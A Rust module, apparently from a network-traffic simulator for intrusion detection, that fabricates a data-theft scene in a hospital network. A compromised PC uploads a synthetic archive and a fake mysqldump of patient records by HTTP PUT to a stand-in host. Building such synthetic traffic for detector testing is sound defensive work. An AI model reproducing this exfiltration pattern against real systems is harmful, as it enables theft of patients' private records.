//! A taken-over PC carries data out: a packed database, then a table as text, over plain HTTP to a stranger's machine.

use super::{Attack, Happened, attacker::FENCE};
use crate::{
    patient,
    scene::{MILLISECOND, SECOND, Scene},
    service::http,
    wire::Side,
};

pub const ATTACK: Attack = Attack { kind: "data_theft", sids: &[8_000_501, 8_000_502], begins_percent: 58, play };

const ARCHIVE_BYTES: usize = 1_600_000;
const DUMP_ROWS: usize = 400;
const SEVEN_ZIP: &[u8] = b"7z\xbc\xaf\x27\x1c\x00\x04";

fn play(scene: &mut Scene<'_>, at: i64) -> Option<Happened> {
    let source = scene.pc_of("opd");
    let fence = scene.hospital.beyond(FENCE);
    let mut dice = scene.dice.fork();
    let archive = [SEVEN_ZIP, &dice.bytes(ARCHIVE_BYTES)].concat();
    let dump = dump(scene);
    let mut now = at;
    for (name, body) in [("hos_2569-11.7z", archive), ("patient.sql", dump)] {
        let mut tcp = scene.connect(now, source.end(), fence, 80);
        let head = format!(
            "PUT /in/{name} HTTP/1.1\r\nHost: files.share-now.example\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n\
             Content-Length: {}\r\nExpect: 100-continue\r\n\r\n",
            body.len()
        );
        tcp.client(head.as_bytes()).think().server(b"HTTP/1.1 100 Continue\r\n\r\n");
        tcp.client(&body).wait(60 * MILLISECOND).server(&http::answer("201 Created", "text/plain", b"ok\n", false));
        now = tcp.now + SECOND;
        scene.keep(tcp.close(Side::Client));
    }
    Some(Happened { source: source.ip, targets: vec![fence.ip], until: now })
}

/// What mysqldump writes.
fn dump(scene: &mut Scene<'_>) -> Vec<u8> {
    let mut text = String::from(
        "-- MySQL dump 10.13  Distrib 5.7.42, for Win64 (x86_64)\n--\n-- Host: his-db    Database: hos\n\
         -- ------------------------------------------------------\nDROP TABLE IF EXISTS `patient`;\n\
         CREATE TABLE `patient` (`hn` varchar(9), `cid` varchar(13), `fname` varchar(100), `lname` varchar(100), `birthday` date);\n",
    );
    for _ in 0..DUMP_ROWS {
        let p = patient::next(scene);
        let row = format!("('{}','{}','{}','{}','{}')", p.hn, p.national_id, p.first_th, p.last_th, p.born);
        text.push_str(&format!("INSERT INTO `patient` VALUES {row};\n"));
    }
    text.into_bytes()
}
